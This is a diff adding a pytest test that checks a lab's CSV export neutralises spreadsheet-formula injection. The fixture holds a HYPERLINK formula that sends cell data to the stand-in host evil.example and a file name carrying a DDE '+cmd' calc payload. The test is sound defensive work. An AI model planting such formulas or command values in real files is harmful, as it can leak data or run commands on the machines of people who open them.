@@ -1,16 +1,22 @@
 """The student's own results files in the Reality check and Frontier labs, at the parameter level."""
 
+import csv
+import io
+import json
 from pathlib import Path
 
 import numpy as np
+import pandas as pd
 import pytest
 
 from core import Scenario
+from core.evidence.measured.explain import table_rows
 from core.evidence.measured.read import MAX_BYTES
 from labs.frame.shell import lab_bindings
 from labs.frontier.lab import FrontierLab
 from labs.page.links import query_for, restore
 from labs.reality.lab import RealityLab
+from labs.widgets.exports import csv_text
 from labs.widgets.measurements import session_measurements
 
 FIXTURES = Path(__file__).parent / "fixtures" / "benchmarks"
@@ -102,3 +108,20 @@ def test_a_pasted_config_json_explains_an_unknown_model(lab):
     lab.mine._paste()
     assert lab.measured.model == "custom" and len(lab.mine.sources[0].data["key"]) == 2
     assert lab.scenario.model_config == ""  # the session's own model is left alone
+
+
+def test_a_hostile_model_name_downloads_as_inert_text(lab):
+    """A results file naming its model as a spreadsheet formula exports that name as text."""
+
+    run = json.loads((FIXTURES / THREE[0]).read_text())
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
+    run["model_id"] = formula
+    lab.measured.add({"+cmd|' -c calc'!A0.json": json.dumps(run).encode()})
+    lab.measured.model = "Llama-3-8B"  # the formula names no model the catalog knows
+    frame = pd.DataFrame(table_rows(lab.measured.explained))
+    assert len(frame) and set(frame["model_in_file"]) == {formula}
+    rows = list(csv.reader(io.StringIO(csv_text(frame))))
+    header = rows[0]
+    for row in rows[1:]:
+        assert row[header.index("model_in_file")] == "'" + formula
+        assert row[header.index("file")].startswith("'+cmd")
